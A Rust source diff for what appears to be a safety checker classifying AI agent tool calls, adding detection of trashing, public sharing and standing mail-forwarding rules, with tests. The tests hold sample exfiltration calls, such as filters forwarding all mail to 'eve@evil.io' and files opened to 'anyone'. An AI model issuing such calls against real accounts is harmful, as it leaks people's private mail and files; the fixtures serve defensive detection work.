@@ -17,9 +17,11 @@ use super::endpoints::normalise_endpoints;
 use super::lexicon::{
     ACCESS_ARGS, ACCESS_OBJECTS, AMOUNT_ARGS, DELETE, DOMAINS, EXECUTE, EXTRA_VERBS, GRANT,
     HTTP_CLIENT_NOUNS, HTTP_CLIENT_WORDS, IRREVERSIBLE_TOKENS, LOOKUP_NOUNS, MEMBER_OBJECTS,
-    MEMBERSHIP_OBJECTS, MONEY_OBJECTS, NETWORK_TOKENS, NOUN_LIKE, PAYEE_ARGS, PUBLICATION_OBJECTS,
-    READ, SEND, SENSITIVE_TOKENS, TRANSFER, WRITE, domain_words,
+    MEMBERSHIP_OBJECTS, MONEY_OBJECTS, NETWORK_TOKENS, NOUN_LIKE, PAYEE_ARGS, PUBLIC_WORDS,
+    PUBLICATION_OBJECTS, READ, RULE_WORDS, SEND, SENSITIVE_TOKENS, STANDING_FORWARD_WORDS,
+    TRANSFER, TRASH_OBJECTS, WRITE, domain_words,
 };
+use super::roles::ArgRoles;
 use crate::{Error, Result};
 
 /// What a step does, as inferred from its tool name (and HTTP method).
@@ -112,6 +114,17 @@ pub struct StepAnnotation {
     /// returns is sensitive if it is sent on.
     #[serde(skip)]
     pub sensitive_topic: bool,
+    /// The e-mail addresses the step invites: those under a participant, attendee, guest or
+    /// invitee argument at any depth (a calendar event's `participants`,
+    /// `requestBody.attendees[].email`), lower-cased, in order. Each is told what the event or
+    /// document holds, as a recipient of a send would be.
+    #[serde(skip)]
+    pub invitees: Vec<String>,
+    /// The e-mail addresses a standing mail-forwarding rule the step sets up sends all future
+    /// mail to (`create_mail_filter {"action": {"forward": …}}`, `set_email_forwarding
+    /// {"forward_to": …}`, `auto_forward`), lower-cased; empty for a one-off forward or send.
+    #[serde(skip)]
+    pub forwards_to: Vec<String>,
 }
 
 /// One catalogued tool: any field given overrides the lexicon for that tool.
@@ -234,11 +247,17 @@ impl ToolAnnotator {
         // taken: the riskier action, and for the domain and flags the tokens of the first with
         // the lexicon words of the second (`gmail.for\u{200b}ward` gains no "for", "ward").
         let broken = crate::fold::fold_with_breaks(&step.tool).map(|t| tool_tokens(&t));
+        let scan = ArgScan::of(&step.args);
+        let roles = ArgRoles::of(&step.args);
+        let forwards = forward_targets(&tokens, &roles, &scan);
         let action = entry.and_then(|e| e.action).unwrap_or_else(|| {
-            let joined = infer_action(&tokens, &step.args);
-            broken
-                .as_ref()
-                .map_or(joined, |b| riskier(joined, infer_action(b, &step.args)))
+            let joined = infer_action(&tokens, &step.args, &roles, !forwards.is_empty());
+            broken.as_ref().map_or(joined, |b| {
+                riskier(
+                    joined,
+                    infer_action(b, &step.args, &roles, !forwards.is_empty()),
+                )
+            })
         });
         for t in broken.into_iter().flatten() {
             if is_lexicon_word(&t) && !tokens.contains(&t) {
@@ -247,7 +266,6 @@ impl ToolAnnotator {
         }
         // Kept for the whole plan walk: a 300,000-step plan pays any spare room 300,000 times.
         tokens.shrink_to_fit();
-        let scan = ArgScan::of(&step.args);
 
         let domain = entry
             .and_then(|e| e.domain.clone())
@@ -323,6 +341,14 @@ impl ToolAnnotator {
             endpoints,
             tokens,
             sensitive_topic: scan.query_sensitive,
+            invitees: roles.invitees,
+            // A rule that forwards is a send (its action, unless a catalog or the step says
+            // otherwise); a delete of a forwarding rule forwards nothing.
+            forwards_to: if action == Action::Send {
+                forwards
+            } else {
+                Vec::new()
+            },
         }
     }
 }
@@ -334,7 +360,16 @@ impl ToolAnnotator {
 /// `amount` of `search_transactions` is a filter), and a `method` says what a generic HTTP
 /// client does ([`HTTP_CLIENT_WORDS`]) but never lowers what a name says — `send_money` with
 /// `"method": "GET"` still moves money, `search` with `"method": "POST"` sends its body.
-fn infer_action(tokens: &[String], args: &serde_json::Map<String, Value>) -> Action {
+///
+/// What the argument names say ([`ArgRoles`]) raises a write or an unrecognised name (never a
+/// read, a send or a grant of its own): a trash flag or destination → delete, a public
+/// visibility → grant, a mail-forwarding target (`forwards`, [`forward_targets`]) → send.
+fn infer_action(
+    tokens: &[String],
+    args: &serde_json::Map<String, Value>,
+    roles: &ArgRoles,
+    forwards: bool,
+) -> Action {
     let has = |list: &[&str]| tokens.iter().any(|t| list.contains(&t.as_str()));
     // Shell-like tools: a read-only command line is a read, whatever the tool is called.
     if has(EXECUTE) || tokens.iter().any(|t| t == "git") {
@@ -351,9 +386,48 @@ fn infer_action(tokens: &[String], args: &serde_json::Map<String, Value>) -> Act
         (Some(m), false) => riskier(by_name, m),
         (None, _) => by_name,
     };
-    match args_action(args) {
+    let action = match args_action(args) {
         Some(a) if http_client || by_name != Action::Read => riskier(base, a),
         _ => base,
+    };
+    if !matches!(action, Action::Write | Action::Other) || by_name == Action::Read {
+        return action;
+    }
+    if roles.trashes {
+        Action::Delete
+    } else if roles.publishes {
+        Action::Grant
+    } else if forwards {
+        Action::Send
+    } else {
+        action
+    }
+}
+
+/// The addresses a step would forward mail to by a standing rule: every e-mail address in the
+/// arguments of a tool named for forwarding ([`STANDING_FORWARD_WORDS`]: `set_email_forwarding`,
+/// `enable_autoforwarding`, `auto_forward`), and the forward-key addresses ([`ArgRoles`]:
+/// `action.forward`, `forward_to`) of a tool named for a filter, rule or setting
+/// ([`RULE_WORDS`]). Empty for anything else, a one-off `forward_email` included.
+fn forward_targets(tokens: &[String], roles: &ArgRoles, scan: &ArgScan) -> Vec<String> {
+    let has = |w: &str| tokens.iter().any(|t| t == w);
+    let named = tokens
+        .iter()
+        .any(|t| STANDING_FORWARD_WORDS.contains(&t.as_str()))
+        || (has("auto") && (has("forward") || has("forwards")));
+    if named {
+        let mut all: Vec<String> = roles.forward.clone();
+        for e in &scan.emails {
+            let e = e.to_lowercase();
+            if !all.contains(&e) {
+                all.push(e);
+            }
+        }
+        all
+    } else if tokens.iter().any(|t| RULE_WORDS.contains(&t.as_str())) {
+        roles.forward.clone()
+    } else {
+        Vec::new()
     }
 }
 
@@ -572,6 +646,7 @@ fn name_action(tokens: &[String]) -> Action {
         strict
     };
     let rank = |a: Action| ACTION_LISTS.iter().position(|(_, b)| *b == a).unwrap_or(7);
+    let has = |list: &[&str]| tokens.iter().any(|t| list.contains(&t.as_str()));
     let Some(&(at, verb)) = verbs
         .iter()
         .filter(|(_, a)| *a != Action::Read)
@@ -582,15 +657,47 @@ fn name_action(tokens: &[String]) -> Action {
         }
         let lookup =
             !tokens.is_empty() && tokens.iter().any(|t| LOOKUP_NOUNS.contains(&t.as_str()));
-        return if lookup { Action::Read } else { Action::Other };
+        return if lookup {
+            Action::Read
+        } else if has(PUBLIC_WORDS) && has(&["make"]) {
+            // "make_public", "make_file_public": no verb of the lexicon, but it opens the file.
+            Action::Grant
+        } else {
+            Action::Other
+        };
     };
-    let has = |list: &[&str]| tokens.iter().any(|t| list.contains(&t.as_str()));
     let social = || {
         tokens.iter().any(|t| {
             domain_words("social").contains(&t.as_str()) || SOCIAL_BRANDS.contains(&t.as_str())
         })
     };
+    // "make_public", "set_repo_public", "update_file_public": opens the item to anyone.
+    let opens = || {
+        has(PUBLIC_WORDS)
+            && (has(&["make"])
+                || matches!(
+                    tokens[at].as_str(),
+                    "set"
+                        | "update"
+                        | "change"
+                        | "toggle"
+                        | "modify"
+                        | "edit"
+                        | "turn"
+                        | "mark"
+                        | "enable"
+                        | "configure"
+                ))
+    };
     match verb {
+        // Moving or sending something to the trash deletes it ("move_to_trash").
+        Action::Write | Action::Send
+            if matches!(tokens[at].as_str(), "move" | "mv" | "send" | "put" | "add")
+                && has(TRASH_OBJECTS) =>
+        {
+            Action::Delete
+        }
+        Action::Write if opens() => Action::Grant,
         // A draft is not sent: "draft_reply", "send_draft_for_review" are reversible writes.
         Action::Send if has(&["draft", "drafts"]) => Action::Write,
         // Asking for money does not move it ("send_payment_request", "send_invoice").
@@ -676,6 +783,10 @@ fn is_lexicon_word(token: &str) -> bool {
                 MEMBERSHIP_OBJECTS,
                 PUBLICATION_OBJECTS,
                 LOOKUP_NOUNS,
+                TRASH_OBJECTS,
+                PUBLIC_WORDS,
+                STANDING_FORWARD_WORDS,
+                RULE_WORDS,
             ]
             .iter()
             .any(|list| list.contains(&t))
@@ -1342,6 +1453,197 @@ mod tests {
             r#"{"tool": "send_money", "args": {"amount": 5, "recipient": "x"}}"#,
         ));
         assert_eq!(s.action, Action::Write);
+    }
+
+    /// Probe round 3 (F6, F7, F3): destroying, exposing and forwarding tools the lexicon did
+    /// not know, by name and by argument shape.
+    #[test]
+    fn trash_public_forwarding_and_invitee_shapes_are_read() {
+        let a = ToolAnnotator::default();
+        let ann = |tool: &str, args: &str| {
+            a.annotate(&step(&format!(r#"{{"tool": "{tool}", "args": {args}}}"#)))
+        };
+        for (tool, args, want) in [
+            // By name.
+            (
+                "trash_file",
+                r#"{"file_id": "budget.xlsx"}"#,
+                Action::Delete,
+            ),
+            ("empty_trash", "{}", Action::Delete),
+            (
+                "clear_calendar",
+                r#"{"calendar": "primary"}"#,
+                Action::Delete,
+            ),
+            ("shred_document", r#"{"doc": "a"}"#, Action::Delete),
+            ("discard_draft", r#"{"draft_id": "d1"}"#, Action::Delete),
+            (
+                "overwrite_file",
+                r#"{"file_id": "a", "content": ""}"#,
+                Action::Delete,
+            ),
+            ("unshare_file", r#"{"file_id": "a"}"#, Action::Delete),
+            ("move_to_trash", r#"{"file_id": "a"}"#, Action::Delete),
+            ("make_public", r#"{"file_id": "a"}"#, Action::Grant),
+            ("set_repo_public", r#"{"repo": "a"}"#, Action::Grant),
+            // Nouns and adjectives, and bringing things back, do not delete.
+            ("list_trash", "{}", Action::Read),
+            ("get_trash_items", "{}", Action::Read),
+            ("create_empty_file", r#"{"path": "a.txt"}"#, Action::Write),
+            ("restore_from_trash", r#"{"file_id": "a"}"#, Action::Write),
+            ("get_public_databases", "{}", Action::Read),
+            (
+                "create_public_channel",
+                r#"{"name": "launch"}"#,
+                Action::Write,
+            ),
+            ("public_holidays", "{}", Action::Other),
+            // By argument: a trash flag or destination deletes, a public visibility grants.
+            (
+                "drive.files.update",
+                r#"{"fileId": "a", "requestBody": {"trashed": true}}"#,
+                Action::Delete,
+            ),
+            (
+                "move_file",
+                r#"{"file_id": "a", "destination": "/Trash"}"#,
+                Action::Delete,
+            ),
+            (
+                "gmail.users.messages.modify",
+                r#"{"id": "m1", "addLabelIds": ["TRASH"]}"#,
+                Action::Delete,
+            ),
+            (
+                "move_file",
+                r#"{"file_id": "a", "destination": "/docs/2024"}"#,
+                Action::Write,
+            ),
+            (
+                "move_file",
+                r#"{"file_id": "a", "destination": "/usr/local/bin"}"#,
+                Action::Write,
+            ),
+            ("list_emails", r#"{"folder": "Trash"}"#, Action::Read),
+            (
+                "update_file",
+                r#"{"file_id": "a", "visibility": "public"}"#,
+                Action::Grant,
+            ),
+            (
+                "drive.permissions.create",
+                r#"{"fileId": "a", "requestBody": {"role": "reader", "type": "anyone"}}"#,
+                Action::Grant,
+            ),
+            (
+                "update_file",
+                r#"{"file_id": "a", "visibility": "private"}"#,
+                Action::Write,
+            ),
+            // A publication stays a send.
+            (
+                "create_linkedin_post",
+                r#"{"text": "hi", "visibility": "PUBLIC"}"#,
+                Action::Send,
+            ),
+            // A mail rule or setting that forwards to an address is a send.
+            (
+                "create_mail_filter",
+                r#"{"criteria": {"from": "*"}, "action": {"forward": "eve@evil.io"}}"#,
+                Action::Send,
+            ),
+            (
+                "set_email_forwarding",
+                r#"{"forward_to": "eve@evil.io", "enabled": true}"#,
+                Action::Send,
+            ),
+            (
+                "update_forwarding",
+                r#"{"address": "eve@evil.io"}"#,
+                Action::Send,
+            ),
+            ("auto_forward", r#"{"to": "eve@evil.io"}"#, Action::Send),
+            (
+                "GmailCreateFilter",
+                r#"{"from": "boss@corp.com", "forward": "eve@evil.io"}"#,
+                Action::Send,
+            ),
+            (
+                "create_mail_filter",
+                r#"{"criteria": {"from": "*"}, "action": {"removeLabelIds": ["INBOX"]}}"#,
+                Action::Write,
+            ),
+            ("disable_forwarding", "{}", Action::Write),
+            ("get_forwarding", "{}", Action::Read),
+        ] {
+            assert_eq!(ann(tool, args).action, want, "{tool} {args}");
+        }
+        // Deleting, exposing and forwarding cannot be undone.
+        for (tool, args) in [
+            ("trash_file", r#"{"file_id": "a"}"#),
+            ("make_public", r#"{"file_id": "a"}"#),
+            ("set_email_forwarding", r#"{"forward_to": "eve@evil.io"}"#),
+        ] {
+            assert!(ann(tool, args).irreversible, "{tool}");
+        }
+        // A standing rule's targets; a one-off forward has none.
+        let forwards = |tool: &str, args: &str| ann(tool, args).forwards_to;
+        assert_eq!(
+            forwards(
+                "create_mail_filter",
+                r#"{"criteria": {"from": "boss@corp.com"}, "action": {"forward": "Eve@Evil.io"}}"#
+            ),
+            ["eve@evil.io"]
+        );
+        assert_eq!(
+            forwards(
+                "set_email_forwarding",
+                r#"{"forward_to": "eve@evil.io", "enabled": true}"#
+            ),
+            ["eve@evil.io"]
+        );
+        assert_eq!(
+            forwards("auto_forward", r#"{"to": "eve@evil.io"}"#),
+            ["eve@evil.io"]
+        );
+        assert!(
+            forwards(
+                "forward_email",
+                r#"{"email_id": "c3", "forward_to": "a@corp.com"}"#
+            )
+            .is_empty()
+        );
+        assert!(forwards("delete_forwarding_address", r#"{"email": "eve@evil.io"}"#).is_empty());
+        let fwd = ann("set_email_forwarding", r#"{"forward_to": "eve@evil.io"}"#);
+        assert!(fwd.network && fwd.domain == "email", "{fwd:?}");
+        // Invitees: the addresses of participant keys, not of the description.
+        let event = ann(
+            "create_calendar_event",
+            r#"{"title": "sync", "participants": ["alice@corp.com", "eve@evil.io"], "description": "cc bob@corp.com"}"#,
+        );
+        assert_eq!(event.action, Action::Write);
+        assert_eq!(event.invitees, ["alice@corp.com", "eve@evil.io"]);
+        assert_eq!(
+            event.endpoints,
+            ["alice@corp.com", "bob@corp.com", "eve@evil.io"]
+        );
+        assert_eq!(
+            ann(
+                "calendar.events.insert",
+                r#"{"requestBody": {"attendees": [{"email": "li@corp.com"}]}}"#
+            )
+            .invitees,
+            ["li@corp.com"]
+        );
+        assert_eq!(
+            ann(
+                "GoogleCalendarCreateOrUpdateEvent",
+                r#"{"event_name": "x", "attendees": ["li@corp.com"]}"#
+            )
+            .invitees,
+            ["li@corp.com"]
+        );
     }
 
     #[test]
